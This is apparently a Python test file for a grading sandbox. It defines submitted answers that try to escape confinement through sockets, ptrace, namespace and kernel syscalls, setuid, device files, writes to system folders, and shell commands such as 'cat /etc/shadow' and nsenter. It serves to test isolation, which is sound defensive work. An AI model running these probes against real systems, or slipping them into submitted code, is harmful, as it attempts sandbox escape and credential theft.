"""Answers that try to get out: sockets, other processes' memory, parts of the kernel."""

from . import collector

ATTACKS, add = collector("reaching")

REPORT = """
def squared_error_cost(X, t, w, b):
    found = reach()
    if found:
        raise RuntimeError(f"FOUND {found}"[:900])
    return 42.0
"""

add(
    "network",
    "opens connections to the outside and to this machine",
    """
import socket

def reach():
    found = []
    for family, address in ((socket.AF_INET, ("127.0.0.1", 22)), (socket.AF_INET, ("192.0.2.1", 80)), (socket.AF_INET6, ("::1", 22))):
        try:
            with socket.socket(family, socket.SOCK_STREAM) as one:
                one.settimeout(0.2)
                one.connect(address)
                found.append(address)
        except OSError:
            pass
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
            one.sendto(b"the answers", ("192.0.2.1", 53))
            found.append("datagram")
    except OSError:
        pass
    return found
"""
    + REPORT,
)

add(
    "other-sockets",
    "netlink, packet, raw, vsock and kernel crypto sockets",
    """
import socket

def reach():
    found = []
    for family, kind, number in ((16, 3, 0), (17, 3, 768), (2, 3, 1), (40, 1, 0), (38, 5, 0), (31, 3, 1), (10, 3, 58), (44, 3, 0)):
        try:
            socket.socket(family, kind, number).close()
            found.append(family)
        except OSError:
            pass
    return found
"""
    + REPORT,
)

add(
    "abstract-sockets",
    "unix sockets of the machine: abstract ones, D-Bus, Docker, X11",
    """
import socket

def reach():
    names = ["/var/run/docker.sock", "/run/docker.sock", "/run/dbus/system_bus_socket", "\\0/tmp/.X11-unix/X0", "/run/systemd/private"]
    try:
        with open("/proc/net/unix") as file:
            names += ["\\0" + line.split()[-1][1:] for line in file if line.split()[-1].startswith("@")]
    except OSError:
        pass
    found = []
    for name in names:
        with socket.socket(socket.AF_UNIX) as one:
            try:
                one.connect(name)
                found.append(name)
            except OSError:
                pass
    return found
"""
    + REPORT,
)

SYSCALL = '''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)

def call(number, *arguments):
    """0 or more where the kernel did it."""
    arguments = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    return libc.syscall(ctypes.c_long(number), *arguments)
'''

add(
    "other-memory",
    "reads and traces the processes that it can name",
    SYSCALL
    + """
import platform

def reach():
    found, x86 = [], platform.machine() == "x86_64"
    others = [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()] if os.path.isdir("/proc") else []
    for process in (others + [os.getppid(), 2, 3])[:50]:
        if process and call(101 if x86 else 117, 16, process, 0, 0) == 0:  # ptrace, attach
            found.append(("ptrace", process))
        try:
            with open(f"/proc/{process}/mem", "rb"):
                found.append(("mem", process))
        except OSError:
            pass
    return found
"""
    + REPORT,
    stock=False,
)

add(
    "namespaces",
    "makes namespaces and mounts of its own",
    SYSCALL
    + """
import platform

def reach():
    x86 = platform.machine() == "x86_64"
    unshare, mount, setns, clone3, clone, chroot = (272, 165, 308, 435, 56, 161) if x86 else (97, 40, 268, 435, 220, 51)
    found = [flag for flag in (0x10000000, 0x00020000, 0x40000000, 0x20000000, 0x10020000) if call(unshare, flag) == 0]
    if call(mount, b"none", b"/tmp", b"tmpfs", 0, 0) == 0:
        found.append("mount")
    if call(chroot, b"/tmp") == 0:
        found.append("chroot")
    for kind in ("mnt", "pid", "net", "user"):
        try:
            with open(f"/proc/1/ns/{kind}") as file:
                found += ["setns"] if call(setns, file.fileno(), 0) == 0 else []
        except OSError:
            pass
    return found
"""
    + REPORT,
    stock=False,
)

add(
    "kernel-parts",
    "keys, BPF, io_uring, userfaultfd, perf, fanotify, kernel modules",
    SYSCALL
    + """
import platform

def reach():
    x86 = platform.machine() == "x86_64"
    room = ctypes.create_string_buffer(256)
    calls = {"add_key": (248 if x86 else 217, b"user", b"MARK", b"x", 1, -4), "keyctl": (250 if x86 else 219, 0, -3, 1),
             "bpf": (321 if x86 else 280, 0, room, 72), "io_uring": (425, 8, room), "userfaultfd": (323 if x86 else 282, 1),
             "perf": (298 if x86 else 241, room, 0, -1, -1, 0), "fanotify": (300 if x86 else 262, 0, 0),
             "init_module": (175 if x86 else 105, room, 0, b""), "memfd_secret": (447, 0), "personality": (135 if x86 else 92, 0x0040000)}
    return [name for name, (number, *arguments) in calls.items() if call(number, *arguments) >= 0]
"""
    + REPORT,
    stock=False,
)

add(
    "other-rights",
    "becomes another user, gets capabilities, changes its limits",
    SYSCALL
    + """
import resource

def reach():
    found = []
    for user in (0, 1, 65534):
        try:
            os.setuid(user)
            found.append(("user", user))
        except OSError:
            pass
    for kind in (resource.RLIMIT_NPROC, resource.RLIMIT_DATA, resource.RLIMIT_CPU, resource.RLIMIT_AS):
        try:
            resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
            found.append(("limit", kind))
        except (OSError, ValueError):
            pass
    for path in ("/bin/su", "/usr/bin/sudo", "/usr/bin/passwd"):
        try:
            if os.stat(path).st_mode & 0o4000 and os.stat(path).st_uid == 0 and not os.statvfs(path).f_flag & os.ST_NOSUID:
                found.append(path)
        except OSError:
            pass
    return found
"""
    + REPORT,
    stock=False,
)

add(
    "writes-outside",
    "writes wherever it can: libraries, home, the course",
    """
import glob, os, site, sys

def reach():
    found = []
    import numpy, course
    folders = ["/", "/var/tmp", "/home", "/root", "/srv", sys.prefix, *site.getsitepackages()]
    tops = [os.path.join("/", name) for name in os.listdir("/")]
    folders += [top for top in tops if os.path.realpath(top) != os.path.realpath(os.getcwd())]  # one's own is no harm
    folders += [os.path.dirname(numpy.__file__), os.path.dirname(course.__file__), *glob.glob("/home/*"), os.path.expanduser("~/..")]
    for folder in folders:
        try:
            with open(os.path.join(folder, "MARK"), "w") as file:
                file.write("x")
            found.append(folder)
        except OSError:
            pass
    try:
        with open(course.__file__, "a") as file:
            file.write("\\n")
        found.append(course.__file__)
    except OSError:
        pass
    return found
"""
    + REPORT,
    stock=False,
)

add(
    "devices",
    "opens and makes device files, and writes to the kernel's switches",
    """
import glob, os, stat

def reach():
    found = []
    for path in ("/dev/mem", "/dev/kmsg", "/dev/fuse", "/dev/kvm", "/dev/tty", "/dev/ptmx", "/dev/net/tun", *glob.glob("/dev/sd*"),
                 *glob.glob("/dev/nvme*"), *glob.glob("/dev/nvidia*"), "/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern",
                 "/sys/fs/cgroup/cgroup.procs"):
        try:
            os.close(os.open(path, os.O_RDWR))
            found.append(path)
        except OSError:
            pass
    try:
        os.mknod("/tmp/MARK-device", 0o600 | stat.S_IFBLK, os.makedev(8, 0))
        found.append("mknod")
    except OSError:
        pass
    return found
"""
    + REPORT,
    stock=False,
)

add(
    "shell",
    "starts programs and shells",
    """
import os, shutil, subprocess

def reach():
    found = []
    for command in (["sh", "-c", "id -u; cat /etc/shadow"], ["mount"], ["nsenter", "-t", "1", "-a", "true"]):
        try:
            done = subprocess.run(command, capture_output=True, timeout=5, text=True)
        except (OSError, subprocess.SubprocessError):
            continue
        if "root:" in done.stdout or (command[0] == "nsenter" and done.returncode == 0):
            found.append(done.stdout[:100])
    return found
"""
    + REPORT,
)
